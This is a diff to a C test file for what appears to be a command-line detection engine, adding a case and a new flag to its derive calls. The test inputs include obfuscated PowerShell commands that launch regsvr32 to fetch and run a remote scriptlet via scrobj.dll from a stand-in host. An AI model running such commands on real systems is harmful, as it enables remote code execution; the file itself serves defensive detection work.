@@ -23,6 +23,9 @@ static struct launch_case cases[] = {
 	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj|caret_name" },
 	{ "a name of two texts", PS, "powershell -c & ('reg'+'svr32') /s /i:http://h/a scrobj.dll",
 	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj|caret_name" },
+	{ "a name of two texts, with blanks", PS,
+	  "powershell -c & ('reg' + \"svr32\") /s /i:http://h/a scrobj.dll",
+	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj" },
 	{ "a list of arguments", PS,
 	  "powershell Start-Process regsvr32 -ArgumentList '/s','/u','/i:http://h/a','scrobj.dll'",
 	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj" },
@@ -95,7 +98,7 @@ static void check_launch(void **state)
 	derived_init(&d);
 	derived_put(&d, SQ_F_IMAGE, tc->image);
 	derived_put(&d, SQ_F_COMMAND_LINE, tc->line);
-	sq_derive(&d.ev, &d.arena);
+	sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
 	derived_check(&d, tc->want);
 	derived_fini(&d);
 }
@@ -110,7 +113,7 @@ static void stored_commands_are_read_too(void **state)
 		derived_init(&d);
 		d.ev.category = SQ_CATEGORY_NONE;
 		derived_put(&d, stored[i].field, stored[i].value);
-		sq_derive(&d.ev, &d.arena);
+		sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
 		derived_check(&d, stored[i].want);
 		derived_fini(&d);
 	}
